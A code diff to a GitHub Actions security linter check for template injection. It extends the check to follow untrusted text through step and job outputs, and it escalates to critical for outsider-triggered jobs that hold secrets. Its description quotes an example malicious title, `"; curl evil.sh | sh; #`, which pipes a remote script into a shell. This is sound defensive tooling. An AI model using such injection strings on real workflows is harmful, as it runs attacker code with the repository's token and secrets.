@@ -5,7 +5,8 @@ from __future__ import annotations
 from collections.abc import Iterator
 
 from ..api import Category, Check, Finding, Severity
-from ..models.workflow import FORK_READ_ONLY_EVENTS, Workflow, untrusted_contexts
+from ..models.workflow import FORK_READ_ONLY_EVENTS, OutputTaint, Workflow, job_holds, untrusted_contexts
+from ..models.workflow_expr import guard_for
 
 CHECK = Check(
     code="GHA007",
@@ -18,7 +19,13 @@ CHECK = Check(
         "An issue title, a PR body, a branch name or a commit message is written by whoever "
         "opens the issue or the fork, so a title like `\"; curl evil.sh | sh; #` becomes a "
         "command that runs with the job's token and secrets. Quoting does not help: the "
-        "attacker controls the quotes too. Medium when only pull_request events (a fork's run "
+        "attacker controls the quotes too. The same text carried through a step output "
+        "(`steps.X.outputs.Y` of a step that wrote a head branch name, a title or a body, from the "
+        "event, from `gh api`/`gh pr view` or from a variable holding one) or a job output "
+        "(`needs.J.outputs.O`) is followed. Critical when an outsider starts the workflow "
+        "(pull_request_target, issue_comment, issues, discussions, workflow_run) and the job holds "
+        "`id-token: write` or a secret, unless its `if:` admits only this repository's branches, its "
+        "members' or a bot's pull requests. Medium when only pull_request events (a fork's run "
         "gets a read-only token and no secrets), a schedule or a maintainer start the workflow: "
         "the pattern is the same, but what it runs gains nothing its author could not already do."
     ),
@@ -38,6 +45,9 @@ CHECK = Check(
 
 #: events that fill none of the outsider contexts: a schedule, a maintainer's dispatch
 _NO_OUTSIDER_TEXT = frozenset(("schedule", "workflow_dispatch"))
+#: events an outsider starts with text of theirs, in a run that has the base repository's secrets
+_OUTSIDER_TEXT = frozenset(("pull_request_target", "issue_comment", "issues", "discussion",
+                            "discussion_comment", "workflow_run"))
 
 
 @CHECK.on(Workflow)
@@ -47,8 +57,17 @@ def template_injection(wf: Workflow) -> Iterator[Finding]:
     severity = Severity.MEDIUM if unprivileged else Severity.HIGH
     why = (f"; the workflow runs only on {', '.join(sorted(triggers))}: a fork's pull request gets a read-only "
            "token and no secrets there" if unprivileged else "")
+    outsider = sorted(triggers & _OUTSIDER_TEXT)
+    taint = OutputTaint(wf)
     seen: set[int] = set()  # a step shared by several jobs through a YAML anchor is reported once
     for job in wf.jobs:
+        job_severity, job_why = severity, why
+        if outsider and not unprivileged:
+            guard = guard_for(outsider, job.condition)
+            held = job_holds(job)
+            if held is not None and (guard is None or not guard.strong):
+                job_severity = Severity.CRITICAL
+                job_why = f"; an outsider starts the workflow ({', '.join(outsider)}) and the job holds {held}"
         for step in job.steps:
             if id(step.node) in seen:
                 continue
@@ -63,13 +82,16 @@ def template_injection(wf: Workflow) -> Iterator[Finding]:
                     targets.append((step.with_, "script", script, "github-script"))
             for node, key, text, what in targets:
                 found = untrusted_contexts(text)
-                if not found:
+                carried = taint.carried(text, job)
+                if not found and not carried:
                     continue
                 named = [{"github": "the whole github context", "github.event": "the whole event"}.get(c, c)
                          for c in found]
+                named += [f"{c.ref} ({c.origin})" for c in carried]
                 shown = ", ".join(named[:3]) + (" ..." if len(named) > 3 else "")
+                refs = [*found, *(c.ref for c in carried)]
                 yield CHECK.finding(
-                    node, key, resource=step.resource, severity=severity,
-                    message=f"{step.label} of {job.label} expands {shown} into its {what}{why}",
-                    evidence="; ".join(f"${{{{ {c} }}}}" for c in found[:3]),
+                    node, key, resource=step.resource, severity=job_severity,
+                    message=f"{step.label} of {job.label} expands {shown} into its {what}{job_why}",
+                    evidence="; ".join(f"${{{{ {c} }}}}" for c in refs[:3]),
                 )
